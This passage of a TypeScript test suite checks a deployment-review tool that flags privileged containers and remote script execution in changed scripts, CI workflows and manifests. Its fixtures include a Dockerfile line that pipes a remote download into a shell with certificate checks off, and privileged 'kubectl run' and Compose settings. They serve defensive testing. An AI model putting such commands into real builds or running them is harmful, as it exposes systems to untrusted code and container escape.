    ['a patch of replicas', 'make', `kubectl patch deploy web -p '{"spec":{"replicas":3}}'; kubectl patch deploy web -p "$PATCH"`],
    ['a patch of an annotation', 'make', `kubectl patch deploy web -p "{\\"metadata\\":{\\"annotations\\":{\\"at\\":\\"$(date)\\"}}}"`],
    ['a patch of an Ingress', 'make', `kubectl patch ingress web --type=json -p '[{"op":"add","path":"/spec/rules/0/host","value":"a"}]'`],
    [
      'an image, a synchronization and a report of Argo CD',
      'make',
      'argocd app set web --helm-set image.tag=$TAG; argocd app sync web; argocd app get web',
    ],
    ['what Flux is asked for', 'make', 'flux reconcile kustomization web --with-source; flux get all; flux check --pre'],
    ['the same in another place', 'kubectl run x --privileged', 'make; sudo kubectl run x --privileged --rm'],
    [
      'another version of what is fetched',
      'kubectl apply -f https://x.example/r/v1.2/p.yaml',
      'kubectl apply -f https://x.example/r/v1.3.1/p.yaml',
    ],
    [
      'an image that is built here',
      'make',
      'docker push ghcr.io/a/web:1; kustomize edit set image a=ghcr.io/a/web:1 b=$I:2; kubectl set image deploy/web web=ghcr.io/a/web:1 x=$IMAGE:2',
    ],
    [
      'a run of a service with its own folder',
      'make',
      'docker compose run --rm -v ./data:/data -v /srv/x:/x web; docker compose exec web sh',
    ],
    ['a manifest that gives nothing', 'make', `echo '{"kind":"Namespace"}' | kubectl apply -f -; kubectl run x --image=a --rm`],
    [
      'a binding of a lesser role',
      'make',
      'kubectl create rolebinding x --clusterrole=view --user=a; oc adm policy add-scc-to-user restricted-v2 -z a',
    ],
  ])('says nothing of %s', async (_name, before, after) => {
    const result = await reviewChange(changeOf('d.sh', `${before}\n`, `${after}\n`), { policy });
    expect(result.verdict.conclusion).toBe('pass');
  });
});

describe('an ordinary change of what deploys', () => {
  test.each<[string, string | undefined, string, Files?]>([
    ['that deploys the same in other words', 'kubectl apply -f bad/p.yaml', 'kubectl -n prod apply --wait -f ./bad/p.yaml'],
    ['that names a file of a folder that was deployed', 'kubectl apply -f bad', 'kubectl apply -f bad/p.yaml'],
    ['that deploys what a makefile did', 'make d', 'kubectl apply -f bad/', { Makefile: 'd:\n\tkubectl apply -f bad/\n' }],
    ['that applies the same overlay in other words', 'kustomize build overlays/bad | kubectl apply -f -', 'kubectl apply -k overlays/bad/'],
    ['that starts the project of the root', 'make', 'docker compose up -d --wait'],
    ['that is new', undefined, 'kubectl apply -f bad && kubectl apply -k base && docker compose -f bad.yaml up'],
    [
      'that only looks at it',
      'make',
      'kubectl diff -f bad; kubectl delete -f bad; kubeconform bad/*.yaml; docker compose -f bad.yaml down',
    ],
    [
      'that only speaks of it',
      'make',
      'echo "kubectl apply -f bad/p.yaml"; echo docker compose -f bad.yaml up; grep "kubectl apply -f bad" x',
    ],
    ['that builds an overlay for a validator', 'make', 'kustomize build overlays/bad | kubeconform -strict -'],
    ['that deploys what holds nothing to be told', 'kubectl apply -f bad', 'kubectl apply -f data && docker compose -f compose.yaml up'],
    ['that deploys what is made when it runs', 'make', 'make x > y.yaml && kubectl apply -f y.yaml -f "$(make y)"'],
    ['that deploys what a variable names', 'kubectl apply -f good', 'kubectl apply -f "$MANIFEST" -f "$(ls)/x.yaml"'],
    ['that has other values, which change nothing', 'helm upgrade r ./c', 'helm upgrade r ./c -f c/values.yaml --wait'],
    ['that no longer deploys something', 'kubectl apply -f bad && kubectl apply -k overlays/bad', 'kubectl apply -f bad/p.yaml'],
  ])('%s says nothing', async (_name, before, after, others) => {
    const change = changeOf('d.sh', before === undefined ? undefined : `${before}\n`, `${after}\n`, others);
    const result = await reviewChange(change, { policy });
    expect(causedLines(result)).toEqual([]);
    expect(result.verdict.conclusion).toBe('pass');
  });

  test('says nothing of what moves together with the line that deploys it', async () => {
    const { 'bad/p.yaml': text = '', ...others } = standing;
    const result = await reviewChange(
      {
        base: { ...standing, 'd.sh': 'kubectl apply -f bad/p.yaml\n' },
        head: { ...others, 'k8s/p.yaml': text, 'd.sh': 'kubectl apply -f k8s/p.yaml\n' },
        renames: { 'bad/p.yaml': 'k8s/p.yaml' },
      },
      { policy },
    );
    expect(causedLines(result).filter(line => !line.includes('moved'))).toEqual([]);
  });

  test('asks for nothing where nothing else is deployed than before', async () => {
    const change = changeOf('d.sh', 'kubectl apply -f bad\necho 1\n', 'kubectl apply -f bad\necho 2\n');
    const repository = new InMemoryRepository(change);
    const { readChange } = await import('../../src/review/read/read-change.ts');
    await readChange(repository, await repository.readChanges(), []);
    expect(repository.readPaths.filter(path => path in standing)).toEqual([]);
    expect(repository.listings).toBe(0);
  });
});

describe('a file under a name that says nothing, which nobody has looked at', () => {
  const there: Files = {
    note: pod(privileged),
    'stack.txt': compose('    privileged: ${P:-true}\n'),
    'build.txt': 'FROM debian:12\nRUN curl -k https://a.example/x | sh\nUSER 1\n',
    'compose.yaml': compose('    privileged: ${P:-false}\n'),
    'on.env': 'P=true\n',
  };
  const privilegedService = 'compose/privileged-container';
  const kubernetes = ['note', 'kubernetes/privileged-container'] as const;
  test.each<readonly [string, Files, readonly [string, string]]>([
    ['a workflow', { '.github/workflows/d.yml': workflow('kubectl apply -f note') }, kubernetes],
    ['a job of GitLab', { '.gitlab-ci.yml': 'd:\n  script: [kubectl apply -f note]\n' }, kubernetes],
    ['a makefile', { Makefile: 'd:\n\tkubectl apply -f note\n' }, kubernetes],
    ['a script', { 'd.sh': 'kubectl apply -f note\n' }, kubernetes],
    ['a script of npm', { 'package.json': '{"scripts": {"deploy": "kubectl apply -f note"}}' }, kubernetes],
    ['a start of Compose', { 'd.sh': 'docker compose -f stack.txt up\n' }, ['stack.txt', privilegedService]],
    ['a start of what is printed', { 'd.sh': 'docker compose -f <(cat stack.txt) up\n' }, ['stack.txt', privilegedService]],
    ['a start of it with variables', { 'd.sh': 'docker compose --env-file on.env -f stack.txt up\n' }, ['stack.txt', privilegedService]],
    ['a start with variables', { 'd.sh': 'docker compose --env-file on.env up\n' }, ['compose.yaml', privilegedService]],
    ['a build', { 'd.sh': 'docker build -f build.txt .\n' }, ['build.txt', 'dockerfile/remote-script-executed']],
    [
      'an action that builds',
      { '.github/workflows/d.yml': action('uses: docker/build-push-action@v6\n      with: {file: build.txt}') },
      ['build.txt', 'dockerfile/remote-script-executed'],
    ],
  ])('is judged when %s that is new deploys it', async (_name, brought, [path, rule]) => {
    const result = await reviewChange({ base: there, head: { ...there, ...brought } }, { policy });
    expect(result.verdict.mayMerge).toBe(false);
    const pointer = ` [new] <- changed ${Object.keys(brought)[0]}:`;
    expect(causedLines(result).some(line => line.startsWith(`${path}:`) && line.includes(` ${rule}${pointer}`))).toBe(true);
  });

  test('leaves a change open that sets a variable by which a service may do more', async () => {
    const result = await reviewChange({ base: there, head: { ...there, 'd.sh': 'P=true docker compose up\n' } }, { policy });
    expect(result.verdict.conclusion).toBe('incomplete');
  });
});

describe('a file under a name that says nothing', () => {
  const before = { 'bad/note': pod(), 'more.txt': compose(), 'd.sh': 'kubectl apply -f bad/note\ndocker compose -f more.txt up\n' };
  test.each([
    ['a manifest', { 'bad/note': pod(privileged) }, 'bad/note:8 kubernetes/privileged-container [new]'],
    ['a Compose file', { 'more.txt': compose('    privileged: true\n') }, 'more.txt:4 compose/privileged-container [new]'],
  ])('is judged as %s, since a script deploys it', async (_name, head, line) => {
    const result = await reviewChange({ base: before, head: { ...before, ...head } }, { policy });
    expect(result.verdict.mayMerge).toBe(false);
    expect(causedLines(result)).toEqual([line]);
  });

  test('is compared with what it was', async () => {
    const base = { ...before, 'bad/note': pod(privileged) };
    const result = await reviewChange({ base, head: { ...base, 'bad/note': `# a comment\n${pod(privileged)}` } }, { policy });
    expect(causedLines(result)).toEqual([]);
  });

  test('is nobody’s where nobody deploys it', async () => {
    const { 'd.sh': _, ...base } = before;
    const result = await reviewChange({ base, head: { ...base, 'bad/note': pod(privileged) } }, { policy });
    expect(result.delta.entries).toEqual([]);
  });
});

test('commands that deploy everything thousands of times are looked at in linear time', { timeout: 60_000 }, async () => {
  const scriptOf = (count: number): string =>
    Array.from({ length: count }, (_, at) => `kubectl apply -Rf many; kubectl apply -f many/${at}.yaml`).join('\n');
  const many = Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`many/${index}.yaml`, data(`d${index}`)]));
  const spent = async (count: number): Promise<number> => {
    const change = changeOf('d.sh', 'kubectl apply -f many\n', `${scriptOf(count)}\n`, many);
    const { readChange } = await import('../../src/review/read/read-change.ts');
    const repository = new InMemoryRepository(change);
    const from = process.threadCpuUsage();
    await readChange(repository, await repository.readChanges(), []);
    const { user, system } = process.threadCpuUsage(from);
    return user + system;
  };
  const least = async (count: number): Promise<number> => Math.min(await spent(count), await spent(count));
  await spent(50);
  const [small, large] = [await least(150), await least(600)];
  expect(large / small).toBeLessThan(12);
});
